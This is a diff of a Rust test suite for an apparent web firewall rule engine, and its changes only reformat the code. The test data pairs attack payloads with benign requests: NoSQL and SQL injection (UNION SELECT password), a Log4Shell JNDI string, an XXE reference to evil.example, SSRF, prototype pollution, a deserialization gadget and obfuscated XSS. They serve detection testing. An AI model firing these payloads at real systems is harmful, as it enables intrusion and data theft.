@@ -107,7 +107,11 @@ fn requests() -> Vec<(u32, Request, Request)> {
     vec![
         (8_101_010, place::request("TRACE", "/", "", b""), place::request("OPTIONS", "/", "", b"")),
         (8_101_020, typed("application/json; charset=utf-7"), json("{}")),
-        (8_101_030, place::header("Range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13"), place::header("Range", "bytes=0-499,600-")),
+        (
+            8_101_030,
+            place::header("Range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13"),
+            place::header("Range", "bytes=0-499,600-"),
+        ),
         (8_101_050, loose("\r\nx"), loose("\r\n")),
         (8_101_080, file("a.php"), file("a.php-manual.pdf")),
         (8_102_010, place::header("User-Agent", "sqlmap/1.7"), place::header("User-Agent", "curl/8.5.0")),
@@ -115,14 +119,30 @@ fn requests() -> Vec<(u32, Request, Request)> {
         (8_111_010, get("/login?user[$ne]=x&password[$ne]=y"), get("/items?filter[price][$gte]=10")),
         (8_111_010, json(r#"{"password":{"$gt":""}}"#), json(r#"{"where":{"price":{"$gt":5}}}"#)),
         (8_111_020, json(r#"{"filter":{"$where":"1"}}"#), json(r#"{"filter":{"where":"1"}}"#)),
-        (8_124_050, json(r#"{"a":{"@type":"com.sun.rowset.JdbcRowSetImpl"}}"#), json(r#"{"@type":"Person","name":"Jane"}"#)),
-        (8_131_020, get("/fetch?url=http://localhost:22/"), get("/authorize?redirect_uri=http://localhost:3000/callback")),
-        (8_132_020, place::xml("<a b=\"http://evil.example/x.dtd\"/>"), place::xml("<a b=\"http://www.example.com/ns\"/>")),
+        (
+            8_124_050,
+            json(r#"{"a":{"@type":"com.sun.rowset.JdbcRowSetImpl"}}"#),
+            json(r#"{"@type":"Person","name":"Jane"}"#),
+        ),
+        (
+            8_131_020,
+            get("/fetch?url=http://localhost:22/"),
+            get("/authorize?redirect_uri=http://localhost:3000/callback"),
+        ),
+        (
+            8_132_020,
+            place::xml("<a b=\"http://evil.example/x.dtd\"/>"),
+            place::xml("<a b=\"http://www.example.com/ns\"/>"),
+        ),
         (8_150_010, json(r#"{"__proto__":{"admin":true}}"#), json(r#"{"proto":{"admin":true}}"#)),
         (8_150_010, get("/?constructor[prototype][x]=1"), get("/?constructor=Ford")),
         (8_151_010, nested(16), nested(12)),
         (8_151_020, aliases(50), aliases(9)),
-        (8_123_010, place::header("User-Agent", "${jndi:ldap://x/a}"), place::header("User-Agent", "app/1.0 ($Rev)")),
+        (
+            8_123_010,
+            place::header("User-Agent", "${jndi:ldap://x/a}"),
+            place::header("User-Agent", "app/1.0 ($Rev)"),
+        ),
     ]
 }
 
@@ -134,7 +154,9 @@ fn every_rule_matches_its_attack_and_lets_the_nearest_ordinary_request_pass() {
     let mut cases: Vec<(u32, Vec<Request>, Vec<Request>)> =
         requests().into_iter().map(|(rule, attack, ordinary)| (rule, vec![attack], vec![ordinary])).collect();
     for (rule, attack, ordinary) in VALUES {
-        let placed = |value: &str| vec![place::query(value), place::form(value), place::json(value), place::multipart(value)];
+        let placed = |value: &str| {
+            vec![place::query(value), place::form(value), place::json(value), place::multipart(value)]
+        };
         cases.push((*rule, placed(attack), placed(ordinary)));
     }
     for (rule, attacks, ordinary) in cases {
@@ -184,7 +206,9 @@ fn wrapped_attacks_are_seen_through_several_layers() {
         "{\\\"a\\\":\\\"\\\\u003cscript\\\\u003e\\\"}",
         "<scr\u{200b}ipt>alert(1)",
     ] {
-        for request in [place::query(wrapped), place::form(wrapped), place::json(wrapped), place::multipart(wrapped)] {
+        for request in
+            [place::query(wrapped), place::form(wrapped), place::json(wrapped), place::multipart(wrapped)]
+        {
             assert!(ftw::run(&set, None, &request).refusal.is_some(), "{}", shown(&request));
         }
     }
@@ -194,7 +218,9 @@ fn wrapped_attacks_are_seen_through_several_layers() {
 fn an_attack_is_seen_wherever_it_stands() {
     let set = set(EngineMode::Enforce);
     let value = "1' UNION SELECT password FROM users--";
-    let json = |body: serde_json::Value| place::request("POST", "/api", "application/json", body.to_string().as_bytes());
+    let json = |body: serde_json::Value| {
+        place::request("POST", "/api", "application/json", body.to_string().as_bytes())
+    };
     let typed = |kind: &str, body: &str| place::request("POST", "/api", kind, body.as_bytes());
     for request in [
         place::query(value),
@@ -207,7 +233,9 @@ fn an_attack_is_seen_wherever_it_stands() {
         place::request("GET", &format!("/?{}=1", place::escaped(value.as_bytes())), "", b""),
         json(serde_json::json!({ value: 1 })),
         json(serde_json::json!([[{ "deep": [value] }]])),
-        json(serde_json::json!({ "query": "query($id: ID!) { user(id: $id) { name } }", "variables": { "id": value } })),
+        json(
+            serde_json::json!({ "query": "query($id: ID!) { user(id: $id) { name } }", "variables": { "id": value } }),
+        ),
         json(serde_json::json!({ "query": format!("{{ user(id: \"{value}\") {{ name }} }}") })),
         json(serde_json::json!({ "text": serde_json::json!({ "inner": value }).to_string() })),
         place::xml(&format!("<a><b>{value}</b></a>")),
@@ -223,5 +251,6 @@ fn an_attack_is_seen_wherever_it_stands() {
 }
 
 fn shown(request: &Request) -> String {
-    String::from_utf8_lossy(&[&request.method[..], b" ", &request.target, b" ", &request.body].concat()).into_owned()
+    String::from_utf8_lossy(&[&request.method[..], b" ", &request.target, b" ", &request.body].concat())
+        .into_owned()
 }
